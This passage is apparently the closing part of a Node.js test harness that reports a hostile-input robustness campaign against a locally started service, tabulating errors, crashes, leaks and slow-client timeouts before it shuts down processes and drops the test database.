out(`hostile-input campaign against ${child ? 'npm start (one process)' : services.length ? `the separate services (${services.map((x) => x.name).join(', ')})` : base}`);
out('| category | cases | ok | typed errors | internal | HTTP 5xx | crashes / no answer | leaks (stack, SQL, host:port) | untyped | worst /healthz ms |');
out('|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|');
const totals = { cases: 0, ok: 0, typed: 0, internal: 0, '5xx': 0, crashes: 0, leaks: 0, other: 0 };
for (const r of rows) {
  for (const k of Object.keys(totals)) totals[k] += r[k];
  out(`| ${pad(r.category, 10)} | ${r.cases} | ${r.ok} | ${r.typed} | ${r.internal} | ${r['5xx']} | ${r.crashes} | ${r.leaks} | ${r.other} | ${Math.round(worstHealth.get(r.category) ?? 0)} |`);
}
out(`| total | ${totals.cases} | ${totals.ok} | ${totals.typed} | ${totals.internal} | ${totals['5xx']} | ${totals.crashes} | ${totals.leaks} | ${totals.other} | ${Math.round(Math.max(0, ...worstHealth.values()))} |`);
const slow = rows.find((r) => r.category === 'slow');
if (slow) out(`slow clients: slowloris closed by the server after at most ${slow['slowloris closed after (max ms)']} ms, dribbled bodies after at most ${slow['dribbled body closed after (max ms)']} ms`);
const diff = Object.fromEntries(Object.keys(before).map((k) => [k, before[k] === null || after[k] === null ? null : after[k] - before[k]]));
out(`state: before ${JSON.stringify(before)}, after ${JSON.stringify(after)}; changes ${JSON.stringify(diff)} against ${successes} write calls that succeeded`);
out(`after the campaign: server ${alive ? 'alive' : 'DOWN'}, an ordinary execute ${finalExecute?.result?.status === 'confirmed' ? 'confirmed' : `failed: ${JSON.stringify(finalExecute).slice(0, 200)}`}`);
for (const r of rows) for (const e of r.examples) out(`  ${r.category}: ${e}`);
out(JSON.stringify({ target: child ? 'npm start' : base, rows: rows.map(({ examples, ...r }) => r), totals, worst_healthz_ms: Object.fromEntries([...worstHealth].map(([k, v]) => [k, Math.round(v)])), state: { before, after, changes: diff, successful_writes: successes }, alive }));
if (child) {
  child.kill('SIGTERM');
  await new Promise((r) => child.once('exit', r));
}
const servicesAlive = services.every((x) => x.p.exitCode === null);
for (const x of services.reverse()) {
  if (x.p.exitCode !== null) out(`${x.name} exited with ${x.p.exitCode}:\n${x.out().slice(-1500)}`);
  x.p.kill('SIGTERM');
  await new Promise((r) => (x.p.exitCode !== null ? r() : x.p.once('exit', r)));
}
await dropDatabase?.();
if (!servicesAlive) process.exit(1);
process.exit(totals.internal || totals.crashes || totals.leaks || totals['5xx'] || !alive ? 1 : 0);
